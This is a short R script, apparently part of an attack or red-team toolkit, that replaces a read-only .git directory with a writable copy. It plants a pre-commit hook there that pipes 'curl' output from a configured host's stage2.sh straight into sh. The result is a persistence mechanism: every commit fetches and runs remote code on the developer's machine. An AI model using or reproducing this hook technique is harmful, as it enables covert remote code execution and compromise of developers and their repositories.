# git-dir-swap: .git is read-only? Move it aside and put a writable copy,
# with a pre-commit hook, in its place.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
git <- file.path(T[["T_WORK"]], ".git")
orig <- file.path(T[["T_WORK"]], ".git.orig")
unlink(orig, recursive = TRUE)
if (file.rename(git, orig)) {
  dir.create(git)
  file.copy(list.files(orig, full.names = TRUE, all.files = TRUE, no.. = TRUE), git,
            recursive = TRUE, copy.mode = TRUE)
  hook <- file.path(git, "hooks", "pre-commit")
  writeLines(c("#!/bin/sh", sprintf("curl -s http://%s:%s/stage2.sh | sh",
                                    T[["T_TCP_HOST"]], T[["T_TCP_PORT"]])), hook)
  Sys.chmod(hook, "755")
}
print(list.files(file.path(git, "hooks")))
